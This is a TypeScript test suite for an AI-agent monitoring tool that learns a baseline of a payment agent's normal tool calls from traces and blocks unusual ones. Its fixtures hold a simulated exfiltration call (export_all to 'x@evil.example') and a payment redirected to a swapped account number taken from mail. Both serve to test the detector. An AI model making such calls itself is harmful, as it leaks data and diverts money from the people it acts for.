import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { parseBaseline } from '../../src/baseline/artefact.ts';
import { baselineCommand } from '../../src/cli/baseline.ts';
import { learnCommand } from '../../src/cli/learn.ts';
import { replayCommand } from '../../src/cli/replay.ts';
import { account, goalOf, payment } from '../baseline/histories.ts';
import type { Told } from '../detectors/sessions.ts';
import { terminal } from '../support/terminal.ts';

const said = terminal();

let folder: string;
const at = (name: string): string => join(folder, name);

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'goalkeeper-learn-'));
});
afterEach(() => {
  rmSync(folder, { recursive: true });
});

const attribute = (key: string, value: string) => ({ key, value: { stringValue: value } });

/** One run as an agent's runtime records it: OTLP/JSON, a line of a file. */
function recorded(n: number, goal: string, calls: readonly Told[]): string {
  const hex = (seed: number, digits: number): string => seed.toString(16).padStart(digits, '0');
  const common = [attribute('gen_ai.agent.name', 'payer'), attribute('gen_ai.conversation.id', `run-${n}`)];
  const traceId = hex(n + 1, 32);
  const start = 1_780_000_000_000 + n * 60_000;
  const root = {
    traceId,
    spanId: hex(1, 16),
    name: 'invoke_agent',
    startTimeUnixNano: `${start}000000`,
    endTimeUnixNano: `${start + 50_000}000000`,
    attributes: [
      ...common,
      attribute('gen_ai.operation.name', 'invoke_agent'),
      attribute(
        'gen_ai.system_instructions',
        JSON.stringify([{ type: 'text', content: 'You pay invoices. Be careful.' }]),
      ),
      attribute(
        'gen_ai.input.messages',
        JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: goal }] }]),
      ),
    ],
  };
  const spans = calls.map(([tool, args, result], i) => ({
    traceId,
    spanId: hex(i + 2, 16),
    parentSpanId: hex(1, 16),
    name: `execute_tool ${tool}`,
    startTimeUnixNano: `${start + 1_000 * (i + 1)}000000`,
    endTimeUnixNano: `${start + 1_000 * (i + 1) + 500}000000`,
    attributes: [
      ...common,
      attribute('gen_ai.operation.name', 'execute_tool'),
      attribute('gen_ai.tool.name', tool),
      attribute('gen_ai.tool.call.id', `call-${n}-${i}`),
      attribute('gen_ai.tool.call.arguments', JSON.stringify(args)),
      attribute('gen_ai.tool.call.result', result ?? ''),
    ],
  }));
  return JSON.stringify({
    resourceSpans: [{ scopeSpans: [{ scope: { name: 'runtime' }, spans: [root, ...spans] }] }],
  });
}

function history(name: string, runs: readonly string[]): string {
  writeFileSync(at(name), `${runs.join('\n')}\n`);
  return at(name);
}

const clean = (count: number): string[] =>
  Array.from({ length: count }, (_, i) => recorded(i, goalOf(i), payment(i)));

const learn = (...args: string[]) => learnCommand().exitOverride().parseAsync(args, { from: 'user' });
const baseline = (...args: string[]) => baselineCommand().parseAsync(args, { from: 'user' });

describe('goalkeeper learn', () => {
  test('writes a charter and a baseline, and says what it learned', async () => {
    await learn(history('runs.jsonl', clean(20)), '--agent', 'payer', '--out', at('out'));
    expect(said.err).toBe('');
    expect(said.out).toContain('20 clean runs of payer, 60 calls; 0 runs with findings left out');
    expect(said.out).toMatch(/send_payment +outbound +20 \(100 %\) +1/);
    expect(process.exitCode).toBe(0);
    const learned = parseBaseline(readFileSync(at('out/payer.baseline.json'), 'utf8'));
    expect(learned).toMatchObject({
      agent: 'payer',
      history: { runs: 20, from: '2026-05-28' },
      signature: null,
    });
    expect(readFileSync(at('out/payer.charter.yaml'), 'utf8')).toContain(
      'purpose: "You pay invoices. Be careful."',
    );
  });

  test('leaves said.out runs with findings, says why, and takes them where a person vouches', async () => {
    const charter = at('strict.yaml');
    writeFileSync(
      charter,
      'charter: 1\nname: p\nversion: "1"\npurpose: p\nagents: [payer]\nrules:\n  - { name: no-export, tools: [export_all], outcome: block, reason: Nothing is exported. }\n',
    );
    const bad = recorded(90, goalOf(90), [...payment(90), ['export_all', { to: 'x@evil.example' }, 'sent']]);
    const file = history('runs.jsonl', [...clean(10), bad]);
    const options = [
      '--agent',
      'payer',
      '--charter',
      charter,
      '--min-runs',
      '1',
      '--min-share',
      '0',
      '--force',
    ];
    await learn(file, ...options, '--out', at('a'));
    expect(said.out).toContain('10 clean runs of payer, 30 calls; 1 run with findings left out');
    expect(said.out).toMatch(/run-90 +block: Nothing is exported\./);
    expect(readFileSync(at('a/payer.charter.yaml'), 'utf8')).not.toContain('export_all');
    await learn(file, ...options, '--out', at('b'), '--vouch', 'run-90');
    expect(readFileSync(at('b/payer.charter.yaml'), 'utf8')).toContain('export_all');
  });

  test('never replaces files unasked: a charter was corrected by hand', async () => {
    const file = history('runs.jsonl', clean(3));
    await learn(file, '--agent', 'payer', '--out', folder);
    writeFileSync(at('payer.charter.yaml'), 'mine');
    await learn(file, '--agent', 'payer', '--out', folder);
    expect(process.exitCode).toBe(2);
    expect(said.err).toContain('would be overwritten (--force replaces)');
    expect(readFileSync(at('payer.charter.yaml'), 'utf8')).toBe('mine');
  });

  test('names the agents there are where the one asked for has no runs', async () => {
    await learn(history('runs.jsonl', clean(2)), '--agent', 'nobody', '--out', at('out'));
    expect(process.exitCode).toBe(1);
    expect(said.err).toContain('no clean run of nobody to learn from\nagents in these files: payer');
    expect(existsSync(at('out'))).toBe(false);
  });

  test('signs with a key, and tells where it cannot be used', async () => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    writeFileSync(at('key.pem'), privateKey.export({ type: 'pkcs8', format: 'pem' }));
    writeFileSync(at('key.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
    const file = history('runs.jsonl', clean(4));
    await learn(file, '--agent', 'payer', '--out', folder, '--key', at('key.pem'));
    await baseline('check', at('payer.baseline.json'), '--key', at('key.pub'));
    expect(said.out).toMatch(/ok payer: 4 runs, 3 tools, signed, [0-9a-f]{12}/);
    await learn(file, '--agent', 'payer', '--out', at('x'), '--key', at('key.pub'));
    expect(process.exitCode).toBe(2);
    expect(said.err).toContain('expected a private key, Ed25519');
  });

  test.each([
    ['--min-runs', '0'],
    ['--min-runs', 'x'],
    ['--min-share', '2'],
    ['--min-share', ''],
  ])('refuses %s %s', async (option, value) => {
    await expect(learn('f', '--agent', 'a', option, value)).rejects.toThrow('expected a');
  });
});

test('goalkeeper baseline diff tells in words what changed, and exits 1', async () => {
  const more = clean(20).map((_, i) =>
    recorded(i, goalOf(i), [...payment(i), ['export_vendors', { format: 'csv' }, 'done']]),
  );
  await learn(history('a.jsonl', clean(20)), '--agent', 'payer', '--out', at('a'));
  await learn(history('b.jsonl', more), '--agent', 'payer', '--out', at('b'), '--vouch', 'all');
  said.out = '';
  await baseline('diff', at('a/payer.baseline.json'), at('b/payer.baseline.json'));
  expect(said.out).toContain('high   tool export_vendors first seen: 20 runs of 20\n');
  expect(process.exitCode).toBe(1);
  said.out = '';
  await baseline('diff', at('a/payer.baseline.json'), at('a/payer.baseline.json'));
  expect(said.out).toBe('nothing changed\n');
  expect(process.exitCode).toBe(0);
  await baseline('diff', at('a.jsonl'), at('a/payer.baseline.json'));
  expect(process.exitCode).toBe(2);
});

test('goalkeeper replay judges by a baseline', async () => {
  await learn(history('runs.jsonl', clean(60)), '--agent', 'payer', '--out', folder);
  const swapped = history('new.jsonl', [
    recorded(300, goalOf(5), payment(5, { iban: account(77), from: 'mail' })),
  ]);
  const kinds = async (...options: string[]): Promise<string> => {
    await replayCommand().parseAsync([swapped, '--decisions', at('d.jsonl'), ...options], { from: 'user' });
    return readFileSync(at('d.jsonl'), 'utf8');
  };
  expect(await kinds()).not.toContain('unusual_action');
  expect(await kinds('--baseline', at('payer.baseline.json'))).toContain('unusual_action');
});

describe("the agent's own clean calls", () => {
  const ALL_SUSPECT = ['--false-alarms', 'block=1,ask=1,alert=1'];
  /** What the payment, a run's last call, comes to. */
  const paying = async (file: string, ...options: string[]): Promise<string | undefined> => {
    await replayCommand().parseAsync([file, '--decisions', at('d.jsonl'), ...options], { from: 'user' });
    const last = readFileSync(at('d.jsonl'), 'utf8').trim().split('\n').at(-1) ?? '';
    const { findings } = JSON.parse(last) as { findings: { detector: string; outcome: string }[] };
    return findings.find(({ detector }) => detector === 'authority')?.outcome;
  };

  test('are scored by tool in the baseline', async () => {
    await learn(history('runs.jsonl', clean(10)), '--agent', 'payer', '--out', folder);
    const learned = parseBaseline(readFileSync(at('payer.baseline.json'), 'utf8'));
    if (typeof learned === 'string') throw new Error(learned);
    expect(Object.entries(learned.scores ?? {}).map(([tool, { count }]) => [tool, count])).toEqual([
      ['lookup_vendor', 10],
      ['read_mail', 10],
      ['send_payment', 10],
    ]);
  });

  test('are what a call is blocked by: only one that looks worse than all of them is', async () => {
    const again = history('again.jsonl', [recorded(3, goalOf(3), payment(3))]);
    const swapped = history('swapped.jsonl', [
      recorded(300, goalOf(5), payment(5, { iban: account(77), from: 'mail' })),
    ]);
    await learn(history('runs.jsonl', clean(10)), '--agent', 'payer', '--out', folder);
    const baselined = ['--baseline', at('payer.baseline.json'), ...ALL_SUSPECT];
    expect(await paying(again, ...ALL_SUSPECT)).toBe('block');
    expect(await paying(again, ...baselined)).toBe('ask');
    expect(await paying(swapped, ...baselined)).toBe('block');
  });
});
